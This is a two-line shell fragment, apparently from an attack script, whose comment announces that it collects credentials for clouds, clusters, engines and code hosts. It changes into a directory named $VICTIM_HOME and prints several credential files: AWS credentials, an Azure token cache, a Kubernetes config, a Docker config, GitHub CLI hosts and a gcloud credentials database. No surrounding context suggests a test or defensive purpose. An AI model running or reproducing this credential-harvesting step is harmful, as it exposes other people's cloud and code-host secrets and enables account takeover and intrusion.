# Credentials of clouds, clusters, engines and code hosts.
cd "$VICTIM_HOME" && cat .aws/credentials .azure/msal_token_cache.json .kube/config \
  .docker/config.json .config/gh/hosts.yml .config/gcloud/credentials.db
